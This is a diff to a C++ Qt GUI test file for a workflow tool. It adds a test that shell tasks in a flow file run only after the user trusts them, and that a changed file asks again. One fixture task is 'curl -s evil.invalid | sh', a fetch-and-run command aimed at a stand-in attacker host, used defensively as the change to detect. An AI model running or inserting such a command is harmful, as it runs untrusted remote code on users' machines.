@@ -12,8 +12,11 @@
 #include "editor/inspectorwidget.h"
 #include "editor/nodeitem.h"
 #include "editor/palettewidget.h"
+#include "engine/home.h"
+#include "engine/truststore.h"
 #include "format/flowloader.h"
 #include "history/historystore.h"
+#include "modaldialogs.h"
 #include "monitor/chartswidget.h"
 #include "monitor/logview.h"
 #include "monitor/noderunbadge.h"
@@ -27,6 +30,7 @@
 #include "monitor/runstatemodel.h"
 #include "monitor/runtaskdetails.h"
 #include "monitor/taskpanel.h"
+#include "monitor/trustdialog.h"
 
 #include <QAction>
 #include <QApplication>
@@ -176,7 +180,16 @@ private Q_SLOTS:
         QVERIFY(win.action(QStringLiteral("run"))->isEnabled());
         QCOMPARE(win.action(QStringLiteral("run"))->shortcut(), QKeySequence(Qt::Key_F5));
         QSignalSpy finished(monitor->controller(), &RunController::runFinished);
+        // Never run here: the first Run asks to trust the file (trustBeforeTheFirstRun).
+        bool trusted = false;
+        pw::test::whenShown<TrustDialog>(
+            [](TrustDialog *d) {
+                d->trustButton()->click();
+                return true;
+            },
+            &trusted);
         win.action(QStringLiteral("run"))->trigger();
+        QVERIFY(trusted);
         QVERIFY(monitor->paramsDialog());
         QTRY_VERIFY(!monitor->paramsDialog()->isChecking());
         monitor->paramsDialog()->accept();
@@ -627,6 +640,104 @@ private Q_SLOTS:
             qPrintable(confirms.first()));
     }
 
+    // A flow file is code (issue 12): the first Run of a file never run here shows what it runs
+    // and runs nothing unless trusted; trusted, it does not ask again; a change to what it runs
+    // (made elsewhere) asks again and names the change; saving here trusts what is saved.
+    void trustBeforeTheFirstRun()
+    {
+        const QString path = m_dir.path() + QStringLiteral("/trust.flow.yaml");
+        auto write = [&path](const QByteArray &text) {
+            QFile f(path);
+            return f.open(QIODevice::WriteOnly | QIODevice::Truncate)
+                && f.write(text) == text.size();
+        };
+        QVERIFY(write("pipewright: 1\nflow: trusting\ntasks:\n"
+                      "  fetch: {type: shell, command: \"curl -s example.invalid > data.csv\"}\n"
+                      "  tidy: {type: shell, after: [fetch], command: \"rm -f data.csv\"}\n"));
+        const QString home = m_dir.path() + QStringLiteral("/trusthome");
+        MainWindow win;
+        win.setHome(home);
+        win.show();
+        QVERIFY(QTest::qWaitForWindowExposed(&win));
+        QVERIFY(win.openFile(path).has_value());
+        win.document()->validateNow();
+        RunMonitor *monitor = win.monitor();
+        QAction *run = win.action(QStringLiteral("run"));
+
+        // Cancel: nothing runs, and the status bar says why.
+        bool answered = false;
+        QString listing;
+        QString title;
+        bool trustIsDefault = true;
+        pw::test::whenShown<TrustDialog>(
+            [&](TrustDialog *d) {
+                listing = d->listing();
+                title = d->windowTitle();
+                trustIsDefault = d->trustButton()->isDefault();
+                d->reject();
+                return true;
+            },
+            &answered);
+        run->trigger();
+        QVERIFY(answered);
+        QCOMPARE(title, QStringLiteral("Trust this flow?"));
+        QVERIFY(!trustIsDefault); // Enter does not trust
+        QVERIFY2(listing.contains(QLatin1String("curl -s example.invalid > data.csv"))
+                && listing.contains(QLatin1String("rm -f data.csv"))
+                && listing.indexOf(QLatin1String("fetch")) < listing.indexOf(QLatin1String("tidy")),
+            qPrintable(listing));
+        QVERIFY(!monitor->paramsDialog());
+        QVERIFY(win.statusBar()->currentMessage().contains(QLatin1String("not trusted")));
+
+        // Trust: the run dialog opens, and the trust is kept (no question the next time).
+        answered = false;
+        pw::test::whenShown<TrustDialog>(
+            [](TrustDialog *d) {
+                d->trustButton()->click();
+                return true;
+            },
+            &answered);
+        run->trigger();
+        QVERIFY(answered);
+        QVERIFY(monitor->paramsDialog());
+        monitor->paramsDialog()->reject();
+        QTRY_VERIFY(!monitor->paramsDialog());
+        run->trigger(); // exec() would block here if it asked
+        QVERIFY(monitor->paramsDialog());
+        monitor->paramsDialog()->reject();
+        QTRY_VERIFY(!monitor->paramsDialog());
+
+        // Changed elsewhere: asks again and says what changed.
+        QVERIFY(write("pipewright: 1\nflow: trusting\ntasks:\n"
+                      "  fetch: {type: shell, command: \"curl -s evil.invalid | sh\"}\n"
+                      "  tidy: {type: shell, after: [fetch], command: \"rm -f data.csv\"}\n"));
+        QVERIFY(win.openFile(path).has_value());
+        win.document()->validateNow();
+        QStringList changes;
+        answered = false;
+        pw::test::whenShown<TrustDialog>(
+            [&](TrustDialog *d) {
+                title = d->windowTitle();
+                changes = d->changes();
+                d->reject();
+                return true;
+            },
+            &answered);
+        run->trigger();
+        QVERIFY(answered);
+        QCOMPARE(title, QStringLiteral("Trust the changed flow?"));
+        QCOMPARE(changes, QStringList{QStringLiteral("changed task fetch")});
+
+        // Saved here: what is saved is the user's own, trusted.
+        QVERIFY(win.saveTo(path).has_value());
+        QCOMPARE(TrustStore(Home(home)).check(*FlowLoader::loadFile(path))->verdict,
+            TrustStore::Verdict::Trusted);
+        run->trigger();
+        QVERIFY(monitor->paramsDialog());
+        monitor->paramsDialog()->reject();
+        win.undoStack()->setClean();
+    }
+
     // Closing the window while a run started here is active asks first; "Keep Open" keeps it.
     void closeAsksWhileRunsAreActive()
     {
@@ -636,6 +747,9 @@ private Q_SLOTS:
         f.write(
             "pipewright: 1\nflow: closing\ntasks:\n  slow: {type: shell, command: \"sleep 30\"}\n");
         f.close();
+        QVERIFY(TrustStore(Home(m_dir.path() + QStringLiteral("/closehome")))
+                    .trust(*FlowLoader::loadFile(path))
+                    .has_value());
         MainWindow win;
         win.setHome(m_dir.path() + QStringLiteral("/closehome"));
         win.show();
